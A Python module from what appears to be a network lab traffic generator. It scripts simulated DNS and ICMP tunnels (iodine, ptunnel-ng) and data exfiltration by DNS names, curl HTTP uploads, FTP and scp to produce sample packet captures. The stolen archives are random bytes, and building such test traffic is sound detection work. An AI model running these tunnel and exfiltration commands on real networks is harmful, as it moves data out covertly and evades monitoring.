"""Tunnels in DNS and ICMP, and data carried out by HTTP, FTP, SSH and DNS."""

from __future__ import annotations

from sample_pcaps.lab.accounts import PEOPLE
from sample_pcaps.lab.activities.commands import curl, program, scp, shell
from sample_pcaps.lab.activities.kind import ANY, ICMP, TCP, UDP, Call, Touch
from sample_pcaps.lab.activities.making import Kinds, of_port
from sample_pcaps.lab.services.basics import CARRIER_ZONE, TUNNEL_ZONE

__all__ = ["THEFT", "TUNNELS"]

TUNNELS, THEFT = Kinds("tunnel"), Kinds("exfiltration")
#: Source ports of own clients: below those that the kernel gives out, so that no other flow of
#: the host has them.
_PORTS = range(20_000, 30_000)


@TUNNELS.add(of_port(53, UDP), "iodine", tool="iodine", seconds=60)
def tunnel_dns(call: Call) -> list[str]:
    """A network interface whose packets are queries; pings and a page go through it."""
    kind = call.option("record", "NULL")
    return shell(
        f"iodine -f -r -P lab -T {kind} -m {call.option('fragment', 600)} "
        f"{call.address} {TUNNEL_ZONE} &",
        "sleep 4",
        f"ping -q -i {call.option('wait', 0.2)} -s {call.option('bytes', 400)} 172.29.0.1 &",
        f"sleep {call.seconds - 5}",
        "kill $!",
    )


@TUNNELS.add(lambda call: [Touch(call.address, ANY, ICMP)], "ptunnel", tool="ptunnel-ng",
             seconds=60)  # fmt: skip
def tunnel_icmp(call: Call) -> list[str]:
    """A TCP connection within echo requests: a page is fetched again and again."""
    drop = call.network.matching("drop")[0]
    return shell(
        f"ptunnel-ng -p {call.address} -l 8000 -r{call.network.address(drop)} -R80 &",
        "sleep 1",
        f"for i in $(seq 1 {call.option('pages', 20)}); do",
        "curl -s -m 8 -o /dev/null http://127.0.0.1:8000/page$((i % 40)).html",
        f"sleep {call.option('wait', 1)}",
        "done",
        "kill $!",
    )


def _own_port(call: Call) -> int:
    """The same for the touches and the command of a start."""
    return _PORTS[int(call.folder.name) % len(_PORTS)]


def _by_resolver(call: Call, port: int | None) -> list[Touch]:
    """From a port of the host to the network's servers of names, and from those to the far end."""
    servers = [h for h in call.network.hosts if "dns" in h.services]
    beyond = [Touch(call.network.address(h), 53, UDP, src=call.network.address(s))
              for s in servers for h in call.network.matching("tunnel*")]  # fmt: skip
    return [Touch(call.network.address(s), 53, UDP, port) for s in servers] + beyond


def _one_port(call: Call) -> list[Touch]:
    return _by_resolver(call, _own_port(call))


def _all_ports(call: Call) -> list[Touch]:
    return _by_resolver(call, ANY)


@TUNNELS.add(_one_port, "dns", tool="DNS tunnel through the resolver", seconds=60)
def tunnel_resolver(call: Call) -> list[str]:
    """Both ways through the network's own server of names: long names, TXT answers."""
    return program("dns_carry", call.address, TUNNEL_ZONE, _own_port(call),
                   call.option("rate", 5), int(call.seconds), "TXT")  # fmt: skip


@THEFT.add(_one_port, "dns", tool="exfiltration in DNS names", seconds=60)
def steal_dns(call: Call) -> list[str]:
    """Data in names that are asked for, `rate` a second."""
    return program("dns_carry", call.address, TUNNEL_ZONE, _own_port(call),
                   call.option("rate", 15), int(call.seconds), "A")  # fmt: skip


@TUNNELS.add(_all_ports, "dns", tool="DNS tunnel, a port for each query", seconds=60)
def tunnel_queries(call: Call) -> list[str]:
    """The same by the host's own resolver: each question is a flow."""
    return program("dns_carry", call.address, TUNNEL_ZONE, 0, call.option("rate", 8),
                   int(call.seconds), call.option("record", "TXT"))  # fmt: skip


@THEFT.add(_all_ports, "dns", tool="exfiltration in DNS names, a port for each", seconds=60)
def steal_queries(call: Call) -> list[str]:
    """Data in names, each question a flow."""
    return program("dns_carry", call.address, TUNNEL_ZONE, 0, call.option("rate", 15),
                   int(call.seconds), "A")  # fmt: skip


def _short_by_resolver(call: Call) -> list[Touch]:
    """From any port to the network's servers of names, and from those to the far ends."""
    servers, ends = (
        [call.network.address(h) for h in call.network.hosts if service in h.services]
        for service in ("dns", "carrier")
    )
    beyond = [Touch(end, 53, UDP, src=server) for server in servers for end in ends]
    return [Touch(server, 53, UDP) for server in servers] + beyond


def _short_names(call: Call) -> list[str]:
    """Some bytes in a name, `rate` a second, each question from a port of its own."""
    least, most = call.option("bytes", (6, 12))
    return program("dns_carry", call.address, CARRIER_ZONE, 0, call.option("rate", 3),
                   int(call.seconds), call.option("record", "A"), "--bytes", least, most,
                   "--encoding", call.option("encoding", "base32"))  # fmt: skip


@TUNNELS.add(_short_by_resolver, "dns", tool="DNS tunnel, short names", seconds=60)
def tunnel_short(call: Call) -> list[str]:
    """Asks for orders in names of ten to twenty letters, through the network's own server."""
    return _short_names(call)


@TUNNELS.add(of_port(53, UDP), "carrier", tool="DNS tunnel, short names, no resolver", seconds=60)
def tunnel_short_straight(call: Call) -> list[str]:
    """The same, asked of the far end itself."""
    return _short_names(call)


def _loot(call: Call) -> str:
    file = call.folder / "archive"
    file.write_bytes(call.draw.randbytes(int(call.option("megabytes", 4) * 1_000_000)))
    return str(file)


@THEFT.add(of_port(80), "web", tool="HTTP upload (curl)", seconds=90)
def steal_http(call: Call) -> list[str]:
    """An archive in one upload, at a limited rate."""
    return curl("--limit-rate", str(call.option("rate", "500k")), "-F", f"file=@{_loot(call)}",
                f"http://{call.address}/app/upload")  # fmt: skip


@THEFT.add(of_port(443), "web", tool="HTTPS uploads in pieces", seconds=90)
def steal_pieces(call: Call) -> list[str]:
    """An archive in pieces with pauses, over TLS."""
    size = call.option("kilobytes", 200)
    file = call.folder / "piece"
    file.write_bytes(call.draw.randbytes(size * 1000))
    return shell(
        f"for i in $(seq 1 {call.option('pieces', 15)}); do",
        f"curl -sk -m 20 -o /dev/null -F file=@{file} https://{call.address}/app/upload",
        f"sleep {call.option('wait', 2)}",
        "done",
    )


@THEFT.add(lambda call: [Touch(call.address, ANY, TCP)], "ftp", tool="FTP upload", seconds=90)
def steal_ftp(call: Call) -> list[str]:
    """Archives by FTP to a server outside."""
    login = f"keeper:{PEOPLE['keeper']}"
    return shell(
        f"for i in $(seq 1 {call.option('files', 3)}); do",
        f"curl -s -u '{login}' --limit-rate {call.option('rate', '1M')} -T {_loot(call)} "
        f"ftp://{call.address}/archive$i",
        f"sleep {call.option('wait', 1)}",
        "done",
    )


@THEFT.add(of_port(22), "ssh", tool="scp to outside", seconds=90)
def steal_scp(call: Call) -> list[str]:
    """An archive by SSH to a server outside."""
    return scp("keeper", _loot(call), f"keeper@{call.address}:archive")
